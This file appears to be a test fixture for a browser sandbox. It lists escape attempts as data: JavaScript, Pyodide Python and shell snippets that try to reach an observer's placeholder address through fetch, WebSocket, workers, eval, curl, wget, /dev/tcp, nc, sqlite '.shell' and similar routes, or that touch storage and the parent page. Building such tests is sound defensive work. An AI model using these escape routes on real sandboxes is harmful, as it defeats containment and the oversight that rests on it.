// Attempts to get out of the sandbox, as data. Each is code that reaches for something outside; in it, HTTP stands for
// an address of the attempt's own at the observer, WS for the same over WebSocket, PORT for the observer's UDP port and
// NAME for the attempt's name. What it reaches, the observer sees: requests, connections, the page's storage, title and
// address, messages to the page.
//
// `control` says where the same code does succeed without the sandbox: in a plain "worker" or a plain "window" of the
// same origin. Null: nothing comparable can be done there, and why.

/** In JavaScript. Run through the runner, and in a bare worker that has all its globals still. */
export const javascript = [
  // Network.
  { name: "fetch", control: "worker", code: "await fetch(HTTP)" },
  { name: "fetch-no-cors", control: "worker", code: "await fetch(HTTP, { method: 'POST', mode: 'no-cors', body: 'x' })" },
  { name: "fetch-keepalive", control: "worker", code: "await fetch(HTTP, { keepalive: true, method: 'POST', body: 'x' })" },
  { name: "xhr", control: "worker", code: "const x = new XMLHttpRequest(); x.open('GET', HTTP); x.send()" },
  { name: "xhr-sync", control: "worker", code: "const x = new XMLHttpRequest(); x.open('GET', HTTP, false); x.send()" },
  { name: "websocket", control: "worker", code: "new WebSocket(WS)" },
  { name: "eventsource", control: "worker", code: "new EventSource(HTTP)" },
  { name: "import-scripts", control: "worker", code: "importScripts(HTTP)" },
  { name: "import-url", control: "worker", code: "await realImport(HTTP)" },
  { name: "import-blob", control: "worker", code: "await realImport(URL.createObjectURL(new Blob([`fetch('${HTTP}')`], { type: 'text/javascript' })))" },
  { name: "import-data", control: "worker", code: "await realImport(`data:text/javascript,fetch('${HTTP}')`)" },
  { name: "import-scripts-blob", control: "worker", code: "importScripts(URL.createObjectURL(new Blob([`fetch('${HTTP}')`])))" },
  { name: "eval", control: "worker", code: "(0, eval)(`fetch('${HTTP}')`)" },
  { name: "function-constructor", control: "worker", code: "(async () => {}).constructor(`fetch('${HTTP}')`)()" },
  { name: "timer-text", control: "worker", code: "setTimeout(`fetch('${HTTP}')`, 0)" },
  { name: "nested-worker-url", control: "worker", code: "new Worker(HTTP)" },
  { name: "nested-worker-module", control: "worker", code: "new Worker(HTTP, { type: 'module' })" },
  { name: "nested-worker-blob", control: "worker", code: "new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`])))" },
  { name: "nested-worker-data", control: "worker", code: "new Worker(`data:text/javascript,fetch('${HTTP}')`)" },
  { name: "font", control: "worker", code: "const font = new FontFace('x', `url(${HTTP})`); self.fonts?.add(font); await font.load()" },
  { name: "cache-add", control: "worker", code: "await (await caches.open('escape-add')).add(HTTP)" },
  { name: "wasm-streaming", control: "worker", code: "await WebAssembly.compileStreaming(fetch(HTTP))" },
  { name: "css-import", control: "window", code: "document.head.append(Object.assign(document.createElement('style'), { textContent: `@import url(${HTTP})` }))" },
  { name: "image", control: "window", code: "new Image().src = HTTP" },
  { name: "audio", control: "window", code: "new Audio(HTTP).load()" },
  { name: "beacon", control: "window", code: "navigator.sendBeacon(HTTP, 'x')" },
  { name: "frame", control: "window", code: "document.body.append(Object.assign(document.createElement('iframe'), { src: HTTP }))" },
  { name: "script-element", control: "window", code: "document.body.append(Object.assign(document.createElement('script'), { src: HTTP }))" },
  { name: "prefetch", control: "window", code: "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: HTTP }))" },
  { name: "form", control: "window", code: "const form = document.createElement('form'); form.action = HTTP; form.target = '_blank'; document.body.append(form); form.submit()" },
  { name: "popup", control: "window", code: "open(HTTP)" },
  { name: "link-click", control: "window", code: "const a = document.createElement('a'); a.href = HTTP; a.target = '_blank'; document.body.append(a); a.click()" },
  {
    name: "webrtc",
    control: "window",
    code: "const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${PORT}` }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())",
  },
  { name: "web-transport", control: null, why: "needs a server of HTTP/3", code: "await new WebTransport(HTTP.replace('http:', 'https:')).ready" },
  { name: "service-worker", control: "window", code: "await navigator.serviceWorker.register(HTTP)" },
  { name: "shared-worker", control: "window", code: "new SharedWorker(HTTP)" },
  // Storage.
  { name: "indexed-db", control: "worker", code: "await new Promise((done, failed) => { const open = indexedDB.open(NAME); open.onsuccess = done; open.onerror = failed })" },
  { name: "cache-storage", control: "worker", code: "await caches.open(NAME)" },
  { name: "file-system", control: "worker", code: "await (await navigator.storage.getDirectory()).getFileHandle(NAME, { create: true })" },
  { name: "cookie-store", control: "window", code: "await cookieStore.set(NAME, '1')" },
  { name: "cookie", control: "window", code: "document.cookie = `${NAME}=1`" },
  { name: "local-storage", control: "window", code: "localStorage.setItem(NAME, '1')" },
  { name: "session-storage", control: "window", code: "sessionStorage.setItem(NAME, '1')" },
  // The page.
  { name: "broadcast", control: "worker", code: "new BroadcastChannel('escape').postMessage(NAME)" },
  { name: "parent-message", control: "window", code: "parent.postMessage(NAME, '*')" },
  { name: "top-message", control: "window", code: "top.postMessage(NAME, '*')" },
  { name: "parent-title", control: "window", code: "parent.document.title = NAME" },
  { name: "self-message", control: null, why: "a plain worker's messages are its right", code: "for (let at = 0; at < 10; at += 1) self.postMessage({ worker: at, message: NAME, line: 1, column: 1 })" },
  { name: "top-location", control: null, why: "it would leave the page of all other controls", code: "top.location = HTTP" },
  { name: "worker-location", control: null, why: "a worker's address can't be changed anywhere", code: "location.href = HTTP; location.assign(HTTP)" },
  { name: "clipboard", control: null, why: "a browser without a window has no clipboard to read back", code: "await navigator.clipboard.writeText(NAME)" },
  { name: "notification", control: null, why: "needs a permission that tests can't be asked for", code: "new Notification(NAME)" },
];

/** In Python, mostly by way of `js`. */
export const python = [
  { name: "py-fetch", code: "import js\njs.fetch(HTTP)" },
  { name: "py-xhr", code: "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', HTTP, False)\nx.send()" },
  { name: "py-websocket", code: "import js\njs.WebSocket.new(WS)" },
  { name: "py-eventsource", code: "import js\njs.EventSource.new(HTTP)" },
  { name: "py-import-scripts", code: "import js\njs.importScripts(HTTP)" },
  { name: "py-worker", code: "import js\njs.Worker.new(HTTP)" },
  { name: "py-eval", code: "import js\njs.eval(f\"fetch('{HTTP}')\")" },
  { name: "py-function", code: "import js\njs.Function.new(f\"fetch('{HTTP}')\")()" },
  { name: "py-timer-text", code: "import js\njs.setTimeout(f\"fetch('{HTTP}')\", 0)" },
  { name: "py-run-js", code: "from pyodide.code import run_js\nrun_js(f\"fetch('{HTTP}')\")" },
  { name: "py-open-url", code: "from pyodide.http import open_url\nopen_url(HTTP)" },
  { name: "py-pyfetch", code: "import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch(HTTP))" },
  { name: "py-load-package", code: "import pyodide_js\npyodide_js.loadPackage(HTTP + '/x-1-py3-none-any.whl')" },
  { name: "py-emscripten-script", code: "import ctypes\nctypes.CDLL(None).emscripten_run_script(f\"fetch('{HTTP}')\".encode())" },
  { name: "py-dlopen", code: "import ctypes\nctypes.CDLL(HTTP)" },
  { name: "py-socket", code: "import socket\nsocket.create_connection(('127.0.0.1', int(HTTP.split(':')[2].split('/')[0])))" },
  { name: "py-raw-socket", code: "import _socket\ns = _socket.socket()\ns.connect(('127.0.0.1', int(HTTP.split(':')[2].split('/')[0])))\ns.send(b'GET /escape/py-raw-socket HTTP/1.0\\r\\n\\r\\n')" },
  { name: "py-urllib", code: "import urllib.request\nurllib.request.urlopen(HTTP)" },
  { name: "py-http-client", code: "import http.client\nc = http.client.HTTPConnection(HTTP.split('/')[2])\nc.request('GET', '/escape/py-http-client')" },
  { name: "py-subprocess", code: "import subprocess\nsubprocess.run(['curl', HTTP])" },
  { name: "py-system", code: "import os\nos.system('curl ' + HTTP)" },
  { name: "py-indexed-db", code: "import js\njs.indexedDB.open(NAME)" },
  { name: "py-caches", code: "import js\njs.caches.open(NAME)" },
  { name: "py-idbfs", code: "import pyodide_js\nfs = pyodide_js.FS\nfs.mkdir('/db')\nfs.mount(fs.filesystems.IDBFS, {}, '/db')\nfs.syncfs(True, lambda e: None)" },
  { name: "py-broadcast", code: "import js\njs.BroadcastChannel.new('escape').postMessage(NAME)" },
  { name: "py-post-message", code: "import js\njs.postMessage(NAME)" },
  { name: "py-parent", code: "import js\njs.parent.document.title = NAME" },
  { name: "py-location", code: "import js\njs.location.href = HTTP" },
];

/** In the shell. */
export const shell = [
  { name: "sh-curl", code: "curl HTTP" },
  { name: "sh-wget", code: "wget HTTP" },
  { name: "sh-dev-tcp", code: "exec 3<>/dev/tcp/127.0.0.1/$(echo HTTP | cut -d: -f3 | cut -d/ -f1) && printf 'GET /escape/sh-dev-tcp HTTP/1.0\\r\\n\\r\\n' >&3" },
  { name: "sh-nc", code: "echo x | nc 127.0.0.1 80" },
  { name: "sh-python", code: "python3 -c 'import urllib.request; urllib.request.urlopen(\"HTTP\")'" },
  { name: "sh-node", code: "node -e 'fetch(\"HTTP\")'; js-exec -c 'fetch(\"HTTP\")'" },
  { name: "sh-awk", code: "awk 'BEGIN { system(\"curl HTTP\"); \"curl HTTP\" | getline }'" },
  { name: "sh-sqlite", code: "sqlite3 :memory: \".shell curl HTTP\"" },
  { name: "sh-html", code: "html-to-markdown HTTP" },
  { name: "sh-prototype", code: "export __proto__=HTTP constructor=HTTP; declare -A a; a[__proto__]=x; echo ${a[constructor]} > /__proto__" },
];
